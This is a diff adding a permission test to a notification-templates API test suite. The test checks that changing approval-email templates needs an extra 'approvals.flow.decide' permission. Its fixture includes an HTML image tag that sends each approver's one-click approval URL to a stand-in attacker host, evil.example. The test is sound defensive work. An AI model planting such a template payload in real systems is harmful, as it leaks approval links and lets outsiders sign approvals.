@@ -9,7 +9,7 @@ import { buildProcurementTenant, createApprovalTemplate, submitOrder } from '../
 import { TestApp } from '../helpers/app';
 import { Stack, startStack } from '../helpers/stack';
 import { createDueSoon } from '../helpers/due';
-import { buildCaller, buildUser } from '../helpers/factories';
+import { buildApiKey, buildCaller, buildUser } from '../helpers/factories';
 import { expectBadPageParamsRefused, newestFirst, versionPages } from '../helpers/pages';
 import type { SmtpSink } from '../helpers/smtp-sink';
 import type { WebhookReceiver } from '../helpers/webhook-receiver';
@@ -131,6 +131,50 @@ describe('notification templates API', () => {
     await app.call('post', `/v1/notification-templates/${t.id}/preview`, other.key).send({}).expect(404);
     await app.call('delete', `/v1/notification-templates/${t.id}`, other.key).expect(404);
     expect((await app.call('get', '/v1/notification-templates', other.key).expect(200)).body.items).toEqual([]);
+  });
+});
+
+describe('templates that carry one-click approval links', () => {
+  // A manager who could rewrite approval.action_needed could send approvers' links to a server of theirs (a remote
+  // image, a link of their own) and sign with them: writing it needs approvals.flow.decide too.
+  const exfiltrating = {
+    type: 'approval.action_needed', channel: 'email', locale: 'en', status: 'active',
+    parts: { subject: 'Approval', text: 'Approve: {{ approveUrl }}', html: '<img src="https://evil.example/x?a={{ approveUrl | url_encode }}">' },
+  };
+
+  it('writing or activating one needs approvals.flow.decide besides notifications.templates.manage; setting one aside does not', async () => {
+    const { tenant, key: admin } = await buildCaller(['*']);
+    const callers: [string, string[], string[] | undefined, boolean][] = [
+      ['templates manager', ['notifications.templates.manage'], undefined, false],
+      ['templates manager who signs', ['notifications.templates.manage', 'approvals.flow.sign', 'approvals.flow.admin'], undefined, false],
+      ['an admin whose key is scoped to notifications', ['*'], ['notifications.*'], false],
+      ['templates manager who decides flows', ['notifications.templates.manage', 'approvals.flow.decide'], undefined, true],
+      ['templates manager with approvals.*', ['notifications.*', 'approvals.*'], undefined, true],
+      ['an admin', ['*'], undefined, true],
+    ];
+    const draft = (await app.call('post', '/v1/notification-templates', admin).send({ ...exfiltrating, status: 'draft' }).expect(201)).body;
+    for (const [i, [who, permissions, scopes, allowed]] of callers.entries()) {
+      const { user } = await buildCaller(permissions, tenant);
+      const key = await buildApiKey(user, { scopes });
+      const created = await app.call('post', '/v1/notification-templates', key).send({ ...exfiltrating, status: 'draft', locale: ['de', 'fr', 'it', 'es', 'nl', 'pt'][i] });
+      const edited = await app.call('put', `/v1/notification-templates/${draft.id}`, key).send({ parts: exfiltrating.parts });
+      const activated = await app.call('put', `/v1/notification-templates/${draft.id}`, key).send({ status: 'active' });
+      expect([who, created.status, edited.status, activated.status]).toEqual([who, ...(allowed ? [201, 200, 200] : [403, 403, 403])]);
+      if (!allowed) {
+        for (const res of [created, edited, activated]) expect(res.body).toMatchObject({ code: 'PERMISSION_DENIED', permission: 'approvals.flow.decide' });
+      } else {
+        // Back to a draft for the next caller: setting it aside needs only the manage permission.
+        const { key: manager } = await buildCaller(['notifications.templates.manage'], tenant);
+        await app.call('put', `/v1/notification-templates/${draft.id}`, manager).send({ status: 'draft' }).expect(200);
+        await app.call('delete', `/v1/notification-templates/${created.body.id}`, manager).expect(204);
+      }
+    }
+    // The refused left nothing: only the admin's draft and the allowed callers' edits are versions.
+    const versions = (await app.call('get', `/v1/notification-templates/${draft.id}/versions`, admin).expect(200)).body.items as { version: number }[];
+    expect(versions.length).toBe(1 + 3 * 3);
+    // Other types stay open to every manager.
+    const { key: manager } = await buildCaller(['notifications.templates.manage'], tenant);
+    await app.call('post', '/v1/notification-templates', manager).send(germanOutcome).expect(201);
   });
 });
 
